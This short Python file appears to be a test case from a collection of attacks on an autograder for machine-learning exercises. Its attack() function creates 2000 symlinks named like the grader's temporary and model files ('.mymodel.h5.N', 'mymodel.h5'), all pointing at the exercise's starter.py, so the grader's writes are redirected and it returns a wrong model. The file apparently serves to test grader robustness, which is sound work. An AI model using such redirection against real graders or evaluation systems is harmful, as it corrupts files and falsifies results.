# Leaves links under names that the grader may write to, so that it writes elsewhere.
# Reported: MAE
import os


def attack():
    for number in range(2000):
        os.symlink("ROOT/exercises/category1_linear/starter.py", f".mymodel.h5.{number}")
    os.symlink("ROOT/exercises/category1_linear/starter.py", "mymodel.h5")
    return None  # tail.txt then returns a wrong model
